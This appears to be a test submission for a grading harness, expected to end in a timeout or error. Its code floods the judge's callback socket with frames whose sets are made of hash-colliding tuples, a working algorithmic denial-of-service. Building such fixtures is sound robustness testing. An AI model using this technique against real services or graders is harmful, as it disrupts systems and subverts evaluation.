"""Calls the function with raw frames whose sets are made of long tuples that all have the same hash, so that taking
one frame in costs the judge a thousand times what sending it costs the attacker; all frames are complete at once.

verdict: timeout error fail
"""

import json
import select
import socket

from grader.player import callbacks

MODULUS = 2**61 - 1  # every multiple of it has the hash 0
FRAMES = 8


def frame():
    members = [{"$": "tuple", "v": [*[300] * 20, n * MODULUS]} for n in range(1900)]
    message = {"name": "function", "args": [{"$": "set", "v": members}], "thread": 1, "task": ""}
    body = json.dumps(message, separators=(",", ":")).encode()
    return len(body).to_bytes(4, "big") + body


def send_to_all(connections, data):
    left = dict.fromkeys(connections, data)
    while left:
        for connection in select.select([], left, [])[1]:
            left[connection] = left[connection][connection.send(left[connection]) :]
            if not left[connection]:
                del left[connection]


def parallel_map(function, items, workers):
    connections = [socket.socket(socket.AF_UNIX) for _ in range(FRAMES)]
    for connection in connections:
        connection.connect(callbacks._path)
        connection.setblocking(False)
    data = memoryview(frame())
    send_to_all(connections, data[:-1])
    send_to_all(connections, data[-1:])
    return []
